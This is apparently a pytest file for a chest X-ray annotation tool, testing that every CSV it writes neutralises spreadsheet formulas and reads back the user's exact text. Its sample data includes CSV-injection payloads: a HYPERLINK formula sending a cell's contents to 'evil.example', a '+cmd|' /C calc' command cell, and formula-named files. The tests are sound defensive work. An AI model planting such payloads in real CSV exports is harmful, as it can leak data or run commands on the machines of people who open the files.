"""Issue 11, item 2: no CSV the tool writes carries a cell a spreadsheet would run, and our own readers
give back exactly the text the user had."""
from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from core.csvsafe import FORMULA_START, csv_text, neutralise, restore
from core.data.annotations import AnnotationStore, Box, open_store, read_bbox_list
from core.data.cache import PrepareConfig, PreparedCache, prepare
from core.data.dataset import open_dataset

from tests.faults.conftest import FIXTURES

FORMULAS = ['=HYPERLINK("http://evil.example","x")', "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1",
            "\n=1", "\uff1d1+1", "'=already quoted", "''@twice"]


def runnable(cell: str) -> bool:
    """What a spreadsheet would evaluate: a formula start that is not a plain number."""
    if not cell or cell[0] not in FORMULA_START:
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def assert_no_runnable_cells(path: Path) -> None:
    with open(path, encoding="utf-8", newline="") as stream:
        bad = [(line, cell) for line, row in enumerate(csv.reader(stream), 1) for cell in row if runnable(cell)]
    assert not bad, f"{path.name}: formula cells {bad[:5]}"


@given(st.text())
def test_neutralise_then_restore_gives_back_any_text(text):
    assert restore(neutralise(text)) == text


@given(st.text())
def test_a_neutralised_cell_is_never_run(text):
    assert not runnable(neutralise(text))


def test_formulas_get_one_quote_and_plain_numbers_none():
    assert [neutralise(v) for v in ("=1+2", "@SUM(A1)", "+A1", "-2+3", "'=x", "Mass", "-2", "+1.5e3", 42, -7.25)] \
        == ["'=1+2", "'@SUM(A1)", "'+A1", "'-2+3", "''=x", "Mass", "-2", "+1.5e3", "42", "-7.25"]
    assert csv_text([["=x", 1]], header="a,b") == "a,b\n'=x,1\n"


def make_formula_dataset(tmp_path: Path) -> Path:
    """The corpus Data_Entry and BBox list, with an empty PNG file per image."""
    root = tmp_path / "nih"
    (root / "images").mkdir(parents=True)
    shutil.copy(FIXTURES / "Data_Entry_formulas.csv", root / "Data_Entry_2017.csv")
    shutil.copy(FIXTURES / "BBox_formulas.csv", root / "BBox_List_2017.csv")
    for name in pd.read_csv(root / "Data_Entry_2017.csv", dtype=str)["Image Index"]:
        (root / "images" / name).write_bytes(b"")
    return root


def test_the_formula_corpus_opens_with_every_cell_as_written(tmp_path):
    index = open_dataset(make_formula_dataset(tmp_path))
    table = index.table.set_index("image")
    assert table.loc["00000002_000.png", "finding_labels"] == '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert table.loc["00000003_000.png", "sex"] == "=1+1" and table.loc["00000004_000.png", "view"] == "-2+3"
    assert {"@evil.png", "=1+1.png"} <= set(index.table["image"]) and (index.table["path"] != "").all()
    labels = dict(zip(index.boxes["image"], index.boxes["label"]))
    assert labels["00000003_000.png"] == "@SUM(1)" and labels["@evil.png"] == "-2+3"


def test_annotation_files_and_the_bbox_export_hold_no_formula_and_read_back_as_written(tmp_path):
    root = make_formula_dataset(tmp_path)
    index = open_dataset(root)
    store = open_store(index, user_data_dir=tmp_path / "user")
    assert store.set_finding_labels("=1+1.png", ["Mass", "Nodule"])
    assert store.add_box("@evil.png", Box("Mass", -4, 5, 6, 7))
    exported = tmp_path / "BBox_export.csv"
    store.export_bbox_list(exported)
    for path in (store.boxes_path, store.labels_path, exported):
        assert_no_runnable_cells(path)
    expected_boxes = store.all_boxes()
    assert read_bbox_list(exported) == expected_boxes
    del store

    again = open_store(open_dataset(root), user_data_dir=tmp_path / "user")
    assert again.all_boxes() == expected_boxes
    assert again.finding_labels("=1+1.png") == "Mass|Nodule"
    assert again.boxes("00000002_000.png")[0].label == '=HYPERLINK("http://evil.example","x")'

    shutil.copy(exported, root / "BBox_List_2017.csv")  # the export works as a dataset's box list
    reread = open_dataset(root).boxes
    assert sorted(zip(reread["image"], reread["label"])) == \
        sorted((image, box.label) for image, boxes in expected_boxes.items() for box in boxes)


def test_a_label_the_user_wrote_with_a_leading_quote_round_trips(tmp_path):
    boxes = pd.DataFrame({"image": ["a.png"] * len(FORMULAS), "label": FORMULAS, "x": 1.0, "y": 2.0, "w": 3.0,
                          "h": 4.0})
    store = AnnotationStore(tmp_path, boxes, {"a.png": "Mass"})
    assert store.add_box("a.png", Box("Mass", 1, 1, 1, 1))
    assert_no_runnable_cells(store.boxes_path)
    del store
    again = AnnotationStore(tmp_path, boxes.iloc[:0], {"a.png": "Mass"})
    assert [box.label for box in again.boxes("a.png")] == [label.strip() for label in FORMULAS] + ["Mass"]


def test_the_cache_meta_csv_holds_no_formula_and_reads_back_as_written(dataset, tmp_path):
    entry = dataset / "Data_Entry_2017.csv"
    lines = entry.read_text().splitlines()
    row = next(i for i, line in enumerate(lines[1:], 1) if "|" not in line.split(",")[1])  # a cache holds single labels
    first = lines[row].split(",")
    image = next(dataset.glob(f"images_*/images/{first[0]}"))
    image.rename(image.with_name("=cmd.png"))
    first[0], first[5], first[6] = "=cmd.png", "=1+1", "@SUM(1)"
    lines[row] = ",".join(first)
    entry.write_text("\r\n".join(lines) + "\r\n")
    out = tmp_path / "cache"
    prepare(PrepareConfig(data=str(dataset), out=str(out), size=32))
    assert_no_runnable_cells(out / "meta.csv")
    meta = PreparedCache.open(out).meta.set_index("image")
    assert meta.loc["=cmd.png", "sex"] == "=1+1" and meta.loc["=cmd.png", "view"] == "@SUM(1)"


def test_every_csv_writer_of_the_tool_goes_through_csvsafe():
    """Issue 11 #2 "in one place": a module that builds CSV rows (csv.writer, DictWriter, to_csv) must take
    its cells from `core.csvsafe`. (The phantom generator writes its own fixed demo CSVs: no user text.)"""
    repo = Path(__file__).resolve().parents[2]
    writers = ("csv.writer(", "DictWriter(", ".to_csv(")
    offenders = []
    for path in sorted(p for folder in ("core", "cli", "app") for p in (repo / folder).rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if path.name != "csvsafe.py" and any(w in text for w in writers) and "core.csvsafe import" not in text:
            offenders.append(path.relative_to(repo).as_posix())
    assert offenders == []


def test_the_dicom_import_and_the_export_csv_neutralise_hostile_cells(tmp_path):
    from core.data.dicom import data_entry_text
    from core.export.export import write_csv

    hostile = FORMULAS[:4]
    text = data_entry_text([{"image": f"{i + 1:08d}_000.png", "labels": cell, "age": 50, "sex": cell, "view": "PA",
                             "width": 8, "height": 8, "spacing": (0.1, 0.1)} for i, cell in enumerate(hostile)])
    (tmp_path / "import.csv").write_text(text, encoding="utf-8")
    assert_no_runnable_cells(tmp_path / "import.csv")
    write_csv(tmp_path / "export.csv", [{"image": f"x{i}.png", "class": cell, "patient_id": i, "age": 50, "sex": cell,
                                         "view": cell} for i, cell in enumerate(hostile)], 64)
    assert_no_runnable_cells(tmp_path / "export.csv")
    rows = list(csv.reader((tmp_path / "export.csv").open(encoding="utf-8")))[1:]
    assert [restore(row[1]) for row in rows] == hostile, "the cells read back as written"
